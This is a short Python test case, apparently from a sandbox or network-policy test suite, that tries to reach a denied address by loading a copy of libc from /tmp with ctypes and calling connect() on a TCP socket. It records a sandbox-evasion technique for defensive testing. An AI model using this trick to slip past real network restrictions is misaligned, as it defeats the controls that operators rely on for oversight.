"""A second C library
Connects by a copy of libc from /tmp.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""
import ctypes


def attack(at):
    stream = at.tcp()
    stream.settimeout(None)
    other = ctypes.CDLL(at.copied(at.libc_path(), '/tmp/net-libc.so'))
    other.connect(stream.fileno(), at.address4(at.FOE, at.PORT), 16)
    return at.say(stream)
